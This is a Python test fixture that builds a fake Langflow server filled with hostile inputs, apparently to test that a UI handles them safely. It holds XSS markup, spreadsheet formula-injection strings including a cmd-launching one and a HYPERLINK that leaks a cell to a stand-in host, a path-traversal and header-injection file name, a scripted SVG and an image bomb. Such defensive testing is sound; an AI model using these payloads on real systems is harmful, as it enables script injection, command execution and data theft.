"""A Langflow whose flow attacks its readers: markup, formulas, file names, and an image bomb."""

from __future__ import annotations

import base64
from typing import Any

from tests.browser import seeded
from tests.support.hostile_markdown import PICTURE, TRACE
from tests.support.pictures import as_uri, picture
from tests.support.reports import big_png
from tests.ui.support.http_stand_in import StandIn

MARKUP = (
    f"<img src={PICTURE} onerror=window.hit=1><svg onload=window.hit=1></svg>"
    f"<script>window.hit=1</script><iframe srcdoc='<script>parent.hit=1</script>'></iframe>"
    f"![a]({PICTURE}) [b](javascript:window.hit=1//{TRACE}) ![c][d] :material/delete: "
    f"www.pictures.example/{TRACE} $x$ `b` \u202egnp.\u202d\u200b"
)
FORMULAS = [
    "=1+1",
    "@SUM(A1:A9)",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "\u200b=1+1",
    "＝1+1",
    "a\n=1+1",
    "a;=1+1",
    '"=1+1',
    '=HYPERLINK("http://pictures.example/?"&A1)',
]
FILE_NAME = '../../../../etc/..\\x"\r\nSet-Cookie: hit=1;\u202egnp.<img src=x>.html'
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='top.hit=1'><script>top.hit=1</script></svg>"
BOMB = "data:image/png;base64," + base64.b64encode(big_png()).decode()
FAILING_FLOW = "00000000-0000-0000-0000-00000000fa11"


def hostile_langflow() -> StandIn:
    """Return a Langflow with markup in all names and texts, and formulas, and an image bomb."""
    row = {MARKUP: MARKUP, **{f"{text} {number}": text for number, text in enumerate(FORMULAS)}}
    file = {"id": seeded.FLOW, "name": FILE_NAME, "size": len(SVG)}
    server = seeded.server(
        {
            "ChatOutput-a": ("message", MARKUP),
            "Table-b": ("dataframe", {"dataframe": {"message": [row, row], "type": "array"}}),
            "File-c": ("file", file),
            "Picture-d": ("data", [as_uri(picture("teal", "a"))]),
            "Bomb-e": ("data", [BOMB]),
            "Bomb-f": ("message", f"![bomb]({BOMB})"),
        }
    )
    (found,) = server.answers["GET /api/v1/flows/"][1]
    hostile = {**found, "name": MARKUP, "description": MARKUP}
    for node in hostile["data"]["nodes"]:
        node["data"]["node"]["display_name"] = MARKUP
    server.set_flows(hostile, {**hostile, "id": FAILING_FLOW})
    completed: dict[str, Any] = server.answers["POST /api/v2/workflows"][1]
    for output in completed["outputs"].values():
        output["display_name"] = MARKUP
    failed = {
        **completed,
        "status": "failed",
        "has_errors": True,
        "outputs": {},
        "errors": [{"error": MARKUP, "code": MARKUP}],
    }

    def run(_: dict[str, str], body: Any) -> tuple[int, Any]:
        answer = failed if body["flow_id"] == FAILING_FLOW else completed
        return 200, {**answer, "flow_id": body["flow_id"], "session_id": body.get("session_id")}

    server.answers["POST /api/v2/workflows"] = run
    server.answers[f"GET /api/v2/files/{seeded.FLOW}"] = (200, SVG)
    return server
